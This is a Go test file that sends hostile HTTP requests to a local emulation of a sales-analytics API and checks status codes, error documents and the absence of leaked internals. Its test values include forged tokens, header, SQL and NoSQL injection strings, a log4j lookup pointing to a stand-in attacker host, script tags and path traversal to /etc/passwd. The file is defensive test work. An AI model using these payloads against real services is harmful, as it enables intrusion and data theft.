package api

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/salesseg/salesseg/internal/devstack"
	"github.com/salesseg/salesseg/internal/devstack/emutest"
	"github.com/salesseg/salesseg/internal/ingest"
	"github.com/salesseg/salesseg/internal/recompute"
	"github.com/salesseg/salesseg/internal/store"
)

// hostile is one hostile HTTP request and the answer it must get.
type hostile struct {
	name   string
	method string // GET when empty
	target string // path and raw query, sent as is
	auth   string // the Authorization header; devAuth when empty, noAuth for none
	ctype  string // the Content-Type of a body; application/json when empty, noType for none
	body   string
	status int
	detail string // a part of the problem's detail
	// gateway marks answers API Gateway gives before the handler runs:
	// its own {"message": …} body, not a problem document.
	gateway bool
}

const (
	devAuth = "Bearer " + devstack.DefaultDevToken
	noAuth  = "-"
	noType  = "-"
)

// hostileStack is the local stack a browser talks to: the emulated table
// and bucket with one file ingested by the real ingest service and a
// snapshot published by the real recompute, the API handler behind the
// local API Gateway on a loopback HTTP listener.
type hostileStack struct {
	url      string
	spec     *spec
	uploadID string // the ingested file's upload
	key      string // its object key
	table    string
}

// hostileSales has customers, two segments and regions, and two years of
// months, so that every route, analytics included, has data to answer.
func hostileSales() string {
	var b strings.Builder
	b.WriteString("Order ID,Order Date,Customer ID,Segment,Region,Sales,Profit\n")
	n := 0
	for y := 2023; y <= 2024; y++ {
		for m := 1; m <= 12; m++ {
			for c := range 12 {
				if (c+m)%3 == 0 {
					continue
				}
				n++
				fmt.Fprintf(&b, "O%d,%d-%02d-%02d,C%02d,%s,%s,%d.%02d,%d\n", n, y, m, 1+c*2, c,
					[]string{"Consumer", "Corporate"}[c%2], []string{"East", "West", "東京"}[c%3], 50+c*7+m, c, c)
			}
		}
	}
	return b.String()
}

func startHostileStack(t *testing.T) *hostileStack {
	t.Helper()
	ctx := t.Context()
	emu := emutest.Start(t)
	st := store.New(emu.Clients.DynamoDB, emu.Table)
	log := slog.New(slog.DiscardHandler)
	key := "transactions/2024-01-01/hostile.csv"
	put, err := emu.Clients.S3.PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(emu.Bucket), Key: aws.String(key),
		Body: strings.NewReader(hostileSales())})
	if err != nil {
		t.Fatal(err)
	}
	version := aws.ToString(put.VersionId)
	ev := events.S3Event{Records: []events.S3EventRecord{{EventName: "ObjectCreated:Put", S3: events.S3Entity{
		Bucket: events.S3Bucket{Name: emu.Bucket},
		Object: events.S3Object{Key: url.QueryEscape(key), VersionID: version, Sequencer: "0A"}}}}}
	if err := ingest.New(emu.Clients.S3, st, log, ingest.ServiceOptions{MaxRejectRate: 0.2}).HandleS3(ctx, ev); err != nil {
		t.Fatal(err)
	}
	if _, err := recompute.New(st, emu.Clients.S3, log, recompute.Options{Bucket: emu.Bucket}).Run(ctx); err != nil {
		t.Fatal(err)
	}
	svc := New(st, emu.Clients.Presign, log, Options{Bucket: emu.Bucket})
	srv := httptest.NewServer(devstack.NewGateway(lambda.NewHandler(svc.Handle), ""))
	t.Cleanup(srv.Close)
	return &hostileStack{url: srv.URL, spec: loadSpec(t), uploadID: ingest.FileID(emu.Bucket, key, version), key: key, table: emu.Table}
}

// send sends c over HTTP and returns the response and its body.
func (h *hostileStack) send(t *testing.T, c hostile) (*http.Response, string) {
	t.Helper()
	method := c.method
	if method == "" {
		method = http.MethodGet
	}
	var body io.Reader
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, h.url+c.target, body)
	if err != nil {
		t.Fatal(err)
	}
	switch c.auth {
	case "":
		req.Header.Set("Authorization", devAuth)
	case noAuth:
	default:
		req.Header.Set("Authorization", c.auth)
	}
	switch {
	case c.ctype == noType:
	case c.ctype != "":
		req.Header.Set("Content-Type", c.ctype)
	case c.body != "":
		req.Header.Set("Content-Type", "application/json")
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	data, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res, string(data)
}

// leaks are what no error may show a client: Go error text, AWS SDK and
// DynamoDB internals, the table's key attributes, stack traces, fmt's
// complaints, and markup that a careless page might render.
var leaks = regexp.MustCompile(`(?i)` + strings.Join([]string{
	`json: `, `strconv\.`, `invalid character`, `unexpected end of json`, `cannot unmarshal`, `goroutine \d`, `panic`,
	`runtime\.`, `\.go:\d`, `operation error`, `api error`, `exception`, `dynamodb`, `https?://localhost`, `127\.0\.0\.1`,
	`%!`, `<nil>`, `\bpk\b`, `\bsk\b`, `deadline exceeded`, `context canceled`,
}, "|"))

// check asserts everything an answer to c must be.
func (h *hostileStack) check(t *testing.T, c hostile, res *http.Response, body string) {
	t.Helper()
	if res.StatusCode >= 500 {
		t.Fatalf("%d: %s", res.StatusCode, body)
	}
	if res.StatusCode != c.status {
		t.Fatalf("status %d, want %d: %.300s", res.StatusCode, c.status, body)
	}
	if strings.Contains(strings.ToLower(body), "<script") {
		t.Fatalf("the body carries markup unescaped: %.300s", body)
	}
	if m := leaks.FindString(body); m != "" && res.StatusCode >= 400 {
		t.Fatalf("the error gives away %q: %.300s", m, body)
	}
	if strings.Contains(body, h.table) && res.StatusCode >= 400 {
		t.Fatalf("the error names the table: %.300s", body)
	}
	if res.Header.Get("Set-Cookie") != "" || res.Header.Get("X-Injected") != "" {
		t.Fatalf("headers %v", res.Header)
	}
	ct := res.Header.Get("Content-Type")
	switch {
	case c.gateway || res.StatusCode == http.StatusUnauthorized:
		var m struct{ Message string }
		if err := json.Unmarshal([]byte(body), &m); err != nil || m.Message == "" || !strings.HasPrefix(ct, "application/json") {
			t.Fatalf("API Gateway's answer is %s %q", ct, body)
		}
	case res.StatusCode >= 400:
		if ct != "application/problem+json" || res.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("content type %q, headers %v", ct, res.Header)
		}
		var p problem
		dec := json.NewDecoder(strings.NewReader(body))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&p); err != nil {
			t.Fatalf("not a problem document: %v: %s", err, body)
		}
		if p.Status != res.StatusCode || p.Title != http.StatusText(p.Status) || p.Type != "about:blank" || p.Detail == "" {
			t.Fatalf("problem %+v", p)
		}
		if !strings.Contains(p.Detail, c.detail) {
			t.Fatalf("detail %q, want it to contain %q", p.Detail, c.detail)
		}
		if len(p.Detail) > 600 {
			t.Fatalf("a detail of %d bytes echoes too much input", len(p.Detail))
		}
	case res.StatusCode == http.StatusOK && !strings.HasPrefix(ct, "application/json"):
		t.Fatalf("content type %q", ct)
	}
	if c.gateway && res.StatusCode != http.StatusUnauthorized || strings.HasPrefix(c.detail, "No route") {
		return // API Gateway's own answers, and paths no route has, are outside the document
	}
	method := c.method
	if method == "" {
		method = http.MethodGet
	}
	u, err := url.Parse(h.url + c.target)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.spec.validate(method, u.RequestURI(), res.StatusCode, ct, body); err != nil {
		t.Fatal(err)
	}
}

// TestHostileRequests sends hostile HTTP requests to the local stack, as
// an attacker with a browser or curl would: bad and forged tokens, every
// route with the wrong methods, injection and control characters in
// parameters, impossible periods, hostile limits and page tokens,
// traversal in upload ids and keys, and hostile upload requests. Each
// answer must have its status, be a problem document that matches the
// OpenAPI document when it is an error, give away nothing internal, and
// none may be a 500.
func TestHostileRequests(t *testing.T) {
	h := startHostileStack(t)
	var cases []hostile
	for _, group := range [][]hostile{hostileTokens(), hostileMethods(), hostileParams(), hostilePeriods(h),
		hostilePaging(), hostileUploadPaths(h), hostileUploadBodies(h), hostilePaths()} {
		cases = append(cases, group...)
	}
	names := map[string]bool{}
	for _, c := range cases {
		if names[c.name] {
			t.Fatalf("two cases named %q", c.name)
		}
		names[c.name] = true
		t.Run(c.name, func(t *testing.T) {
			res, body := h.send(t, c)
			h.check(t, c, res, body)
		})
	}
	if len(cases) < 200 {
		t.Fatalf("%d cases", len(cases))
	}
}

// hostileTokens are requests with missing, wrong and forged credentials.
func hostileTokens() []hostile {
	seg := "/v1/segments?dimension=segment"
	jwt := func(header, claims string) string {
		enc := base64.RawURLEncoding.EncodeToString
		return "Bearer " + enc([]byte(header)) + "." + enc([]byte(claims)) + "."
	}
	return []hostile{
		{name: "token: none", target: seg, auth: noAuth, status: 401},
		{name: "token: empty bearer", target: seg, auth: "Bearer ", status: 401},
		{name: "token: bearer without a space", target: seg, auth: "Bearer" + devstack.DefaultDevToken, status: 401},
		{name: "token: wrong", target: seg, auth: "Bearer nope", status: 401},
		{name: "token: basic credentials", target: seg, auth: "Basic " + base64.StdEncoding.EncodeToString([]byte("admin:admin")), status: 401},
		{name: "token: prefix of the right one", target: seg, auth: "Bearer " + devstack.DefaultDevToken[:5], status: 401},
		{name: "token: the right one with a suffix", target: seg, auth: devAuth + "x", status: 401},
		{name: "token: the right one twice", target: seg, auth: devAuth + "," + devAuth, status: 401},
		{name: "token: unsigned JWT (alg none)", target: seg, auth: jwt(`{"alg":"none","typ":"JWT"}`, `{"sub":"admin","scope":"admin"}`), status: 401},
		{name: "token: JWT with a forged HS256 header", target: seg, auth: jwt(`{"alg":"HS256","typ":"JWT"}`, `{"sub":"local-developer"}`) + "c2ln", status: 401},
		{name: "token: non-ASCII", target: seg, auth: "Bearer dév-token", status: 401},
		{name: "token: 8 KB", target: seg, auth: "Bearer " + strings.Repeat("A", 8<<10), status: 401},
		{name: "token: in the query string", target: seg + "&access_token=" + devstack.DefaultDevToken, auth: noAuth, status: 401},
		{name: "token: none on an upload request", method: http.MethodPost, target: "/v1/uploads", auth: noAuth, body: `{"file_name":"a.csv","size":1}`, status: 401},
		{name: "token: none on an upload status", target: "/v1/uploads/0123456789abcdef01234567", auth: noAuth, status: 401},
		{name: "token: none on an unknown route", target: "/v1/admin", auth: noAuth, status: 401},
		{name: "token: none on analytics", target: "/v1/analytics/customers", auth: noAuth, status: 401},
		{name: "token: none on health is fine", target: "/v1/health", auth: noAuth, status: 200},
		{name: "token: wrong one on the document is ignored", target: "/v1/openapi.json", auth: "Bearer nope", status: 200},
		{name: "token: none on a preflight", method: http.MethodOptions, target: "/v1/segments", auth: noAuth, status: 204},
		{name: "token: lower-case scheme", target: seg, auth: "bearer " + devstack.DefaultDevToken, status: 200},
	}
}

// hostileRoutes are every route's path, with a valid id or dimension.
func hostileRoutes() []string {
	return []string{"/v1/health", "/v1/openapi.json", "/v1/segments", "/v1/trend", "/v1/kpis", "/v1/dimensions",
		"/v1/dimensions/segment/values", "/v1/uploads/0123456789abcdef01234567", "/v1/summary", "/v1/analytics/tiers",
		"/v1/analytics/rfm", "/v1/analytics/quadrants", "/v1/analytics/forecast", "/v1/analytics/bridge",
		"/v1/analytics/customers", "/v1/analytics/model", "/v1/analytics/lookalikes"}
}

// hostileMethods sends every route the methods it does not take.
func hostileMethods() []hostile {
	var out []hostile
	for _, p := range hostileRoutes() {
		for _, m := range []string{http.MethodPost, http.MethodPut, http.MethodDelete, http.MethodPatch} {
			out = append(out, hostile{name: "method: " + m + " " + p, method: m, target: p, body: "{}", status: 405, detail: "Use GET"})
		}
	}
	for _, m := range []string{http.MethodPut, http.MethodDelete, http.MethodPatch, "PROPFIND"} {
		out = append(out, hostile{name: "method: " + m + " /v1/uploads", method: m, target: "/v1/uploads", body: "{}", status: 405, detail: "Use GET"})
	}
	return append(out,
		hostile{name: "method: TRACE", method: http.MethodTrace, target: "/v1/segments?dimension=segment", status: 405, detail: "Use GET"},
		hostile{name: "method: lower-case get", method: "get", target: "/v1/summary", status: 405, detail: "Use GET"},
	)
}

// hostileParams are oversized, malformed and injected parameter values,
// and repeated parameters (API Gateway joins their values with commas).
func hostileParams() []hostile {
	q := url.QueryEscape
	trend := "/v1/trend?dimension=segment&period=2024&value="
	return []hostile{
		{name: "param: 257-byte dimension on trend", target: "/v1/trend?period=2024&dimension=" + strings.Repeat("d", 257), status: 400, detail: "too long"},
		{name: "param: 10 KB value on kpis", target: "/v1/kpis?period=2024&dimension=segment&value=" + strings.Repeat("v", 10<<10), status: 400, detail: "too long"},
		{name: "param: 100 KB query string", target: "/v1/segments?dimension=segment&value=" + strings.Repeat("%41", 33<<10), status: 400},
		{name: "param: 1 KB parameter name", target: "/v1/segments?dimension=segment&" + strings.Repeat("n", 1024) + "=1", status: 400, detail: "Unknown parameter"},
		{name: "param: empty name", target: "/v1/segments?=x&dimension=segment", status: 400, detail: "Unknown parameter"},
		{name: "param: non-ASCII name", target: "/v1/segments?dimension=segment&" + q("périod") + "=2024", status: 400, detail: "Unknown parameter"},
		{name: "param: seventeen", target: "/v1/kpis?" + manyParams(17), status: 400, detail: "Too many parameters"},
		{name: "param: NUL in dimension", target: "/v1/segments?dimension=segment%00", status: 400, detail: "control character"},
		{name: "param: CRLF header injection", target: trend + q("A\r\nSet-Cookie: x=1\r\nX-Injected: 1"), status: 400, detail: "control character"},
		{name: "param: NEL", target: trend + q("A\u0085B"), status: 400, detail: "control character"},
		{name: "param: right-to-left isolate", target: trend + q("\u2067Consumer"), status: 400, detail: "control character"},
		{name: "param: byte order mark", target: trend + q("\uFEFFConsumer"), status: 400, detail: "control character"},
		{name: "param: escape sequence", target: trend + q("\x1b[31mred"), status: 400, detail: "control character"},
		{name: "param: overlong UTF-8 slash", target: trend + "%c0%af", status: 400, detail: "UTF-8"},
		{name: "param: UTF-16 surrogate", target: trend + "%ed%a0%80", status: 400, detail: "UTF-8"},
		{name: "param: truncated UTF-8", target: trend + "Caf%c3", status: 400, detail: "UTF-8"},
		{name: "param: SQL injection value", target: trend + q("' OR '1'='1' --"), status: 200},
		{name: "param: DynamoDB expression in value", target: trend + q("x OR begins_with(pk, :p)"), status: 200},
		{name: "param: key separator in value", target: trend + q("Consumer#M#2024"), status: 200},
		{name: "param: script in value", target: trend + q("<script>alert(1)</script>"), status: 200},
		{name: "param: log4j lookup in value", target: trend + q("${jndi:ldap://evil.example/a}"), status: 200},
		{name: "param: template in value", target: trend + q("{{7*7}}"), status: 200},
		{name: "param: zero-width space value", target: trend + q("\u200b"), status: 200},
		{name: "param: NoSQL operator in prefix", target: "/v1/dimensions/segment/values?prefix=" + q(`{"$ne":null}`), status: 200},
		{name: "param: NUL in prefix", target: "/v1/dimensions/segment/values?prefix=%00", status: 400, detail: "control character"},
		{name: "param: 257-byte prefix", target: "/v1/dimensions/segment/values?prefix=" + strings.Repeat("p", 257), status: 400, detail: "too long"},
		{name: "param: key injection in dimension on kpis", target: "/v1/kpis?dimension=" + q("segment#M") + "&value=x", status: 400, detail: "unknown dimension"},
		{name: "param: dimension list of empties", target: "/v1/segments?dimension=,", status: 400, detail: "dimension"},
		{name: "param: dimension with spaces around", target: "/v1/segments?dimension=" + q(" segment "), status: 200},
		{name: "param: malformed escape", target: "/v1/segments?dimension=segment&value=%zz", status: 400, detail: "malformed escape"},
		{name: "param: cut escape", target: "/v1/segments?dimension=segment%2", status: 400, detail: "malformed escape"},
		{name: "param: invalid UTF-8 in a name", target: "/v1/segments?dimension=segment&%ff=1", status: 400, detail: "UTF-8"},
		{name: "param: unknown on summary", target: "/v1/summary?debug=1", status: 400, detail: "takes no parameters"},
		{name: "param: unknown on model", target: "/v1/analytics/model?verbose=true", status: 400, detail: "takes no parameters"},
		{name: "param: unknown on the document", target: "/v1/openapi.json?format=yaml", status: 400, detail: "takes no parameters"},
		{name: "param: unknown on tiers", target: "/v1/analytics/tiers?dimension=segment&limit=5", status: 400, detail: "Unknown parameter"},
		{name: "param: unknown analytics dimension", target: "/v1/analytics/tiers?dimension=planet", status: 400, detail: "dimension"},
		{name: "param: crossed analytics dimension", target: "/v1/analytics/rfm?dimension=segment,region", status: 400, detail: "dimension"},
		{name: "dup: dimension twice", target: "/v1/segments?dimension=segment&dimension=segment", status: 400, detail: "with itself"},
		{name: "dup: period twice", target: "/v1/segments?dimension=segment&period=2024&period=2023", status: 400, detail: "not a period"},
		{name: "dup: grain twice", target: "/v1/trend?dimension=segment&period=2024&grain=month&grain=month", status: 400, detail: "grain"},
		{name: "dup: limit twice", target: "/v1/segments?dimension=segment&limit=5&limit=6", status: 400, detail: "limit"},
		{name: "dup: fiscal_year_start twice", target: "/v1/segments?dimension=segment&period=FY2024&fiscal_year_start=4&fiscal_year_start=4", status: 400, detail: "fiscal_year_start"},
		{name: "dup: from twice", target: "/v1/trend?dimension=segment&from=2024-01&from=2024-02&to=2024-06", status: 400, detail: "not a period"},
		{name: "dup: value twice is one literal value", target: trend + "Consumer&value=Consumer", status: 200},
		{name: "dup: version twice", target: "/v1/uploads?key=transactions/a.csv&version=a&version=b", status: 400, detail: "version"},
		{name: "dup: bridge grain twice", target: "/v1/analytics/bridge?dimension=segment&grain=month&grain=year", status: 400, detail: "grain"},
	}
}

// manyParams is n distinct parameters.
func manyParams(n int) string {
	var p []string
	for i := range n {
		p = append(p, fmt.Sprintf("p%d=%d", i, i))
	}
	return strings.Join(p, "&")
}

// hostilePeriods are impossible dates, mismatched grains and ranges too
// long or reversed.
func hostilePeriods(*hostileStack) []hostile {
	seg := "/v1/segments?dimension=segment&"
	trend := "/v1/trend?dimension=segment&"
	bridge := "/v1/analytics/bridge?dimension=segment&"
	return []hostile{
		{name: "period: month 13", target: seg + "period=2024-13", status: 400, detail: "not a period"},
		{name: "period: month 0", target: seg + "period=2024-00", status: 400, detail: "not a period"},
		{name: "period: February 30", target: seg + "period=2024-02-30", status: 400, detail: "not a period"},
		{name: "period: February 29 of a common year", target: seg + "period=2023-02-29", status: 400, detail: "not a period"},
		{name: "period: February 29 of a leap year", target: seg + "period=2024-02-29", status: 200},
		{name: "period: April 31", target: seg + "period=2024-04-31", status: 400, detail: "not a period"},
		{name: "period: year 0", target: seg + "period=0000", status: 400, detail: "not a period"},
		{name: "period: month of year 0", target: seg + "period=0000-01", status: 400, detail: "not a period"},
		{name: "period: year 1", target: seg + "period=0001", status: 400},
		{name: "period: year 9999", target: seg + "period=9999", status: 200},
		{name: "period: year 10000", target: seg + "period=10000", status: 400, detail: "not a period"},
		{name: "period: negative year", target: seg + "period=-2024", status: 400, detail: "not a period"},
		{name: "period: week 54", target: seg + "period=2024-W54", status: 400, detail: "not a period"},
		{name: "period: week 53 of a 52-week year", target: seg + "period=2023-W53", status: 400, detail: "not a period"},
		{name: "period: week 0", target: seg + "period=2024-W00", status: 400, detail: "not a period"},
		{name: "period: quarter 5", target: seg + "period=2024-Q5", status: 400, detail: "not a period"},
		{name: "period: quarter 0", target: seg + "period=2024-Q0", status: 400, detail: "not a period"},
		{name: "period: fiscal quarter 5", target: seg + "period=FY2024-Q5", status: 400, detail: "not a period"},
		{name: "period: with a time", target: seg + "period=2024-01-01T00:00:00Z", status: 400, detail: "not a period"},
		{name: "period: unpadded month", target: seg + "period=2024-1", status: 400, detail: "not a period"},
		{name: "period: range syntax", target: seg + "period=" + url.QueryEscape("2024-01..2024-03"), status: 400, detail: "not a period"},
		{name: "period: 20-digit year", target: seg + "period=99999999999999999999", status: 400, detail: "not a period"},
		{name: "period: from after to on trend", target: trend + "from=2024-06&to=2024-01", status: 400, detail: "after"},
		{name: "period: from after to by a day", target: trend + "from=2024-01-02&to=2024-01-01", status: 400, detail: "after"},
		{name: "period: from after to on kpis", target: "/v1/kpis?from=2024&to=2023", status: 400, detail: "after"},
		{name: "period: century range", target: seg + "from=1900&to=2024", status: 400, detail: "longer than 20 years"},
		{name: "period: all of time", target: seg + "from=0001-01&to=9999-12", status: 400},
		{name: "period: 1001 days of day grain", target: trend + "grain=day&from=2021-01-01&to=2023-09-28", status: 400, detail: "limited to 1000 days"},
		{name: "period: quarter grain on a month", target: seg + "period=2024-02&grain=quarter", status: 400, detail: "not made of whole quarter"},
		{name: "period: year grain on a quarter", target: trend + "period=2024-Q2&grain=year", status: 400, detail: "not made of whole year"},
		{name: "period: week grain on a month", target: trend + "period=2024-02&grain=week", status: 400, detail: "not made of whole week"},
		{name: "period: upper-case grain", target: trend + "period=2024&grain=MONTH", status: 400, detail: "grain must be one of"},
		{name: "period: empty grain", target: trend + "period=2024&grain=", status: 400, detail: "grain must be one of"},
		{name: "period: open range with day grain", target: seg + "from=2024-01&grain=day", status: 400, detail: "closed range"},
		{name: "period: open end mid-month", target: seg + "to=2024-01-15", status: 400, detail: "month boundaries"},
		{name: "period: fiscal start 0", target: seg + "period=FY2024&fiscal_year_start=0", status: 400, detail: "fiscal_year_start"},
		{name: "period: fiscal start negative", target: seg + "period=FY2024&fiscal_year_start=-3", status: 400, detail: "fiscal_year_start"},
		{name: "period: fiscal start fractional", target: seg + "period=FY2024&fiscal_year_start=4.5", status: 400, detail: "fiscal_year_start"},
		{name: "period: fiscal start huge", target: seg + "period=FY2024&fiscal_year_start=99999999999999999999", status: 400, detail: "fiscal_year_start"},
		{name: "period: crossed by week", target: "/v1/segments?dimension=segment,region&period=2024-W10", status: 400, detail: "stored by month"},
		{name: "bridge: from after to", target: bridge + "from=2024-06&to=2024-01", status: 400, detail: "after"},
		{name: "bridge: quarter from after month to", target: bridge + "from=2024-Q3&to=2024-02", status: 400, detail: "after"},
		{name: "bridge: month 13", target: bridge + "from=2024-13", status: 400, detail: "not a period"},
		{name: "bridge: February 30", target: bridge + "to=2024-02-30", status: 400, detail: "not a period"},
		{name: "bridge: day that starts no quarter", target: bridge + "grain=quarter&from=2024-02-01", status: 400, detail: "does not start a quarter"},
		{name: "bridge: month that ends no year", target: bridge + "grain=year&to=2024-06", status: 400, detail: "does not end a year"},
		{name: "bridge: week grain", target: bridge + "grain=week", status: 400, detail: "grain must be month, quarter or year"},
		{name: "bridge: day grain", target: bridge + "grain=day", status: 400, detail: "grain must be month, quarter or year"},
		{name: "bridge: quarter labels with month grain", target: bridge + "grain=month&from=2023-Q1&to=2023-Q2", status: 200},
		{name: "bridge: year 0", target: bridge + "from=0000", status: 400, detail: "not a period"},
	}
}

// hostilePaging are bad limits, tops and forged page tokens.
func hostilePaging() []hostile {
	seg := "/v1/segments?dimension=segment&"
	forged := func(v any) string {
		data, err := json.Marshal(v)
		if err != nil {
			panic(err)
		}
		return base64.RawURLEncoding.EncodeToString(data)
	}
	segQ := query{"dimension": "segment"}
	custQ := query{}
	return []hostile{
		{name: "limit: negative", target: seg + "limit=-1", status: 400, detail: "limit must be"},
		{name: "limit: 2^63", target: seg + "limit=9223372036854775808", status: 400, detail: "limit must be"},
		{name: "limit: 30 digits", target: seg + "limit=" + strings.Repeat("9", 30), status: 400, detail: "limit must be"},
		{name: "limit: word", target: seg + "limit=ten", status: 400, detail: "limit must be"},
		{name: "limit: fraction", target: seg + "limit=1.5", status: 400, detail: "limit must be"},
		{name: "limit: hexadecimal", target: seg + "limit=0x10", status: 400, detail: "limit must be"},
		{name: "limit: exponent", target: seg + "limit=5e1", status: 400, detail: "limit must be"},
		{name: "limit: leading space", target: seg + "limit=%205", status: 400, detail: "limit must be"},
		{name: "limit: empty", target: seg + "limit=", status: 400, detail: "limit must be"},
		{name: "limit: values 0", target: "/v1/dimensions/segment/values?limit=0", status: 400, detail: "limit must be"},
		{name: "limit: values 501", target: "/v1/dimensions/segment/values?limit=501", status: 400, detail: "limit must be"},
		{name: "limit: trend series 101", target: "/v1/trend?dimension=segment&period=2024&limit=101", status: 400, detail: "limit must be"},
		{name: "limit: customers 0", target: "/v1/analytics/customers?limit=0", status: 400, detail: "limit must be"},
		{name: "limit: customers a million", target: "/v1/analytics/customers?limit=1000000", status: 400, detail: "limit must be"},
		{name: "limit: lookalikes negative", target: "/v1/analytics/lookalikes?limit=-5", status: 400, detail: "limit must be"},
		{name: "top: negative", target: seg + "top=-1", status: 400, detail: "top must be"},
		{name: "top: zero", target: seg + "top=0", status: 400, detail: "top must be"},
		{name: "cursor: padding only", target: seg + "cursor====", status: 400, detail: "cursor is not valid"},
		{name: "cursor: JSON null", target: seg + "cursor=" + forged(nil), status: 400, detail: "cursor is not valid"},
		{name: "cursor: JSON array", target: seg + "cursor=" + forged([]int{1, 2}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: future version", target: seg + "cursor=" + forged(cursorBody{V: 2, Q: fingerprint(segQ), K: []string{"1", "x"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: unknown field", target: seg + "cursor=" + forged(map[string]any{"v": 1, "q": fingerprint(segQ), "k": []string{"1", "x"}, "admin": true}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: forged fingerprint", target: seg + "cursor=" + forged(cursorBody{V: 1, Q: "0000000000000000", K: []string{"1", "x"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: control character in the key", target: seg + "cursor=" + forged(cursorBody{V: 1, Q: fingerprint(segQ), K: []string{"1", "x\x00"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: thousand-part key", target: seg + "cursor=" + forged(cursorBody{V: 1, Q: fingerprint(segQ), K: make([]string, 100)}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: standard base64 with padding", target: seg + "cursor=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(`{"v":1}`))), status: 400, detail: "cursor is not valid"},
		{name: "cursor: forged but well-formed", target: seg + "cursor=" + forged(cursorBody{V: 1, Q: fingerprint(segQ), K: []string{"99999", "zzz"}}), status: 200},
		{name: "cursor: with top", target: seg + "top=3&cursor=" + forged(cursorBody{V: 1, Q: fingerprint(query{"dimension": "segment", "top": "3"}), K: []string{"1", "x"}}), status: 400, detail: "do not combine"},
		{name: "cursor: customers offset negative", target: "/v1/analytics/customers?cursor=" + forged(cursorBody{V: 1, Q: fingerprint(custQ), K: []string{"-1"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: customers offset beyond int", target: "/v1/analytics/customers?cursor=" + forged(cursorBody{V: 1, Q: fingerprint(custQ), K: []string{strings.Repeat("9", 25)}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: customers offset a word", target: "/v1/analytics/customers?cursor=" + forged(cursorBody{V: 1, Q: fingerprint(custQ), K: []string{"first"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: customers offset past the end", target: "/v1/analytics/customers?cursor=" + forged(cursorBody{V: 1, Q: fingerprint(custQ), K: []string{"1000000"}}), status: 200},
		{name: "cursor: customers token on lookalikes with a limit", target: "/v1/analytics/lookalikes?limit=2&cursor=" + forged(cursorBody{V: 1, Q: fingerprint(query{"limit": "9"}), K: []string{"1", "2"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: values of another dimension", target: "/v1/dimensions/region/values?cursor=" + forged(cursorBody{V: 1, Q: fingerprint(query{"prefix": "E"}), K: []string{"East"}}), status: 400, detail: "cursor is not valid"},
		{name: "cursor: 1025 bytes on trend", target: "/v1/trend?dimension=segment&period=2024&cursor=" + strings.Repeat("A", 1025), status: 400, detail: "too long"},
	}
}

// hostileUploadPaths are traversal and odd ids in upload paths and keys.
func hostileUploadPaths(h *hostileStack) []hostile {
	k := func(key string) string { return "/v1/uploads?key=" + url.QueryEscape(key) }
	return []hostile{
		{name: "upload id: the real one", target: "/v1/uploads/" + h.uploadID, status: 200},
		{name: "upload id: traversal", target: "/v1/uploads/../../etc/passwd", status: 404},
		{name: "upload id: encoded traversal", target: "/v1/uploads/%2e%2e%2f%2e%2e%2fetc%2fpasswd", status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: encoded backslashes", target: "/v1/uploads/..%5c..%5cwindows", status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: empty", target: "/v1/uploads/", status: 404},
		{name: "upload id: upper case", target: "/v1/uploads/" + strings.ToUpper(h.uploadID), status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: one digit short", target: "/v1/uploads/" + h.uploadID[1:], status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: one digit long", target: "/v1/uploads/" + h.uploadID + "0", status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: with a suffix path", target: "/v1/uploads/" + h.uploadID + "/rejects", status: 404},
		{name: "upload id: NUL", target: "/v1/uploads/" + h.uploadID[:23] + "%00", status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload id: well-formed, unknown", target: "/v1/uploads/ffffffffffffffffffffffff", status: 404, detail: "No upload"},
		{name: "upload id: key-like", target: "/v1/uploads/transactions%2Fa.csv", status: 404, detail: "24 lower-case hexadecimal"},
		{name: "upload key: the real one", target: k(h.key), status: 200},
		{name: "upload key: empty", target: "/v1/uploads?key=", status: 400, detail: "key is required"},
		{name: "upload history: no key lists", target: "/v1/uploads", status: 200},
		{name: "upload history: status injection", target: "/v1/uploads?status=" + url.QueryEscape("failed) OR (#status <> :s0"), status: 400, detail: "one or more of"},
		{name: "upload history: limit overflow", target: "/v1/uploads?limit=99999999999999999999", status: 400, detail: "from 1 to 200"},
		{name: "upload history: forged cursor", target: "/v1/uploads?cursor=" + encodeCursor(query{}, []string{"2024' OR 1=1#" + h.uploadID}), status: 400, detail: "cursor"},
		{name: "upload key: traversal out of the prefix", target: k("../customers/firms.csv"), status: 400, detail: "must name an object under"},
		{name: "upload key: traversal inside the prefix", target: k("transactions/../customers/firms.csv"), status: 404},
		{name: "upload key: absolute", target: k("/transactions/a.csv"), status: 400, detail: "must name an object under"},
		{name: "upload key: the prefix alone", target: k("transactions/"), status: 400, detail: "must name an object under"},
		{name: "upload key: customers file not ingested", target: k("customers/firms.csv"), status: 404, detail: "has been ingested"},
